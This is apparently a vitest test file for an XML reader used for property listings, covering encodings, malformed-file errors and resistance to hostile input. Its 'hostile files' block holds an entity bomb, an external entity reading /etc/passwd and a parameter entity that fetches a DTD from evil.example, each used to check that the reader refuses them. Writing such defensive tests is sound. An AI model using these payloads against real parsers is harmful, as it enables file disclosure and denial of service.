import { describe, expect, test } from 'vitest'
import { hasSharedData } from '#common/testing/shared-data.ts'
import { bytesOf, sampleBytes } from './testing.ts'
import { XmlRefused } from './xml-refused.ts'
import { readXml, xmlLimits } from './xml-tree.ts'

const read = (xml: string) => readXml(bytesOf(xml)).root

function refusalOf(bytes: Uint8Array): XmlRefused {
  try {
    readXml(bytes)
  } catch (error) {
    if (error instanceof XmlRefused) return error
    throw error
  }
  throw new Error('The file was accepted')
}

test('an element comes with its attributes, its own text and its children', () => {
  expect(read('<a x="1">one<b/><![CDATA[<two>]]></a>')).toEqual({
    name: 'a',
    attributes: { x: '1' },
    text: 'one<two>',
    children: [{ name: 'b', attributes: {}, text: '', children: [] }],
  })
})

test('the login in the root never leaves the reader', () => {
  const { root } = readXml(bytesOf('<propertyList username="ftp-user" password="s3cret" date="2026-01-01"/>'))
  expect(root.attributes).toEqual({ username: '', password: '', date: '2026-01-01' })
})

describe('encodings', () => {
  const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))
  const cases: [string, Uint8Array, string][] = [
    ['UTF-8', bytesOf('<a>café</a>'), 'café'],
    ['UTF-8 with a byte order mark', bytesOf('\ufeff<?xml version="1.0" encoding="utf-8"?><a>café</a>'), 'café'],
    ['UTF-16 little endian', utf16('<?xml version="1.0" encoding="utf-16"?><a>café</a>'), 'café'],
    ['UTF-16 big endian', new Uint8Array(Buffer.from(utf16('<a>café</a>')).swap16()), 'café'],
    ['ISO-8859-1', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>', 'latin1'), 'café'],
    ['Windows-1252', Buffer.from("<?xml version='1.0' encoding='windows-1252'?><a>\x93caf\xe9\x94</a>", 'latin1'), '“café”'],
    ['UTF-16 declared over single bytes', bytesOf('<?xml version="1.0" encoding="utf-16"?><a>café</a>'), 'café'],
  ]
  test.each(cases)('%s is read', (_, bytes, text) => {
    expect(readXml(bytes)).toMatchObject({ root: { text }, warnings: [] })
  })

  test('bytes that are not the UTF-8 they should be are read as Windows-1252, with a warning', () => {
    const { root, warnings } = readXml(Buffer.from('<a>100 m\xb2</a>', 'latin1'))
    expect(root.text).toBe('100 m²')
    expect(warnings).toEqual([expect.stringContaining('Windows-1252')])
  })

  test('an encoding that we do not read is refused by name', () => {
    expect(refusalOf(bytesOf('<?xml version="1.0" encoding="EBCDIC-US"?><a/>'))).toMatchObject({
      refusal: 'encoding',
      message: expect.stringContaining('ebcdic-us'),
    })
  })
})

describe('hostile files', () => {
  const bomb = `<!DOCTYPE a [<!ENTITY lol "lol"><!ENTITY lol2 "${'&lol;'.repeat(10)}">]><a>&lol2;</a>`
  const external = '<!DOCTYPE a [<!ENTITY file SYSTEM "file:///etc/passwd">]><a>&file;</a>'
  const parameter = '<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><a/>'
  test.each([
    ['an entity bomb', bomb],
    ['an external entity', external],
    ['a parameter entity', parameter],
  ])('%s is refused', (_, xml) => {
    expect(refusalOf(bytesOf(xml))).toMatchObject({ refusal: 'entities', code: 'invalid' })
  })

  test('a DOCTYPE that only points at the DTD is ignored, and nothing is fetched', () => {
    expect(read('<!DOCTYPE propertyList SYSTEM "http://reaxml.realestate.com.au/propertyList.dtd"><propertyList/>').name).toBe(
      'propertyList',
    )
  })

  test('nesting is limited', () => {
    const deep = (levels: number) => bytesOf('<a>'.repeat(levels) + '</a>'.repeat(levels))
    expect(readXml(deep(xmlLimits.depth)).root.name).toBe('a')
    expect(refusalOf(deep(xmlLimits.depth + 1))).toMatchObject({ refusal: 'tooDeep' })
  })

  test('the number of elements is limited', () => {
    expect(refusalOf(bytesOf(`<a>${'<b/>'.repeat(xmlLimits.elements)}</a>`))).toMatchObject({ refusal: 'tooMany' })
  })

  test('the size is limited before anything is read', () => {
    expect(refusalOf(new Uint8Array(xmlLimits.sizeBytes + 1))).toMatchObject({ refusal: 'tooLarge', code: 'too_large' })
  })

  test('a file that never closes its CDATA is refused as fast as it was read', () => {
    expect(refusalOf(bytesOf(`<a>${'<![CDATA['.repeat(500_000)}`))).toMatchObject({ refusal: 'notWellFormed' })
  })

  test('names that mean something to JavaScript are only names', () => {
    const root = read('<constructor __proto__="x"><__proto__>y</__proto__></constructor>')
    expect(root.name).toBe('constructor')
    expect(root.children[0]?.text).toBe('y')
    expect(({} as Record<string, unknown>).x).toBeUndefined()
  })
})

describe('files that are not well-formed are refused with the place and in plain words', () => {
  const cases: [string, string, number, number, RegExp][] = [
    ['a lone ampersand', '<a>\n  <b>Bed & bath</b>\n</a>', 2, 10, /&amp;/],
    ['an element that is never closed', '<a>\n<b>\n</a>', 3, 4, /unexpected|closed|not open/],
    ['a control character', '<a>\n ab\u0016</a>', 2, 4, /character that XML does not allow/],
    ['nothing at all', '', 1, 1, /root element/],
    ['something that is no XML', 'bedrooms,price\n4,500000', 2, 9, /outside of root/],
  ]
  test.each(cases)('%s', (_, xml, line, column, words) => {
    const refusal = refusalOf(bytesOf(xml))
    expect(refusal).toMatchObject({ refusal: 'notWellFormed', line, message: expect.stringMatching(words) })
    expect(Math.abs((refusal.column ?? 0) - column)).toBeLessThanOrEqual(1)
  })

  test.each([
    ['own__InvalidCharacter.xml', 6, 26],
    ...(hasSharedData ? [['ore__REA-InvalidCharacter.xml', 39, 14] as const] : []),
  ] as const)('%s', (name, line, column) => {
    expect(refusalOf(sampleBytes(name))).toMatchObject({
      line,
      column,
      message: `The file is not well-formed XML at line ${line}, column ${column}: it has a character that XML does not allow.`,
    })
  })
})
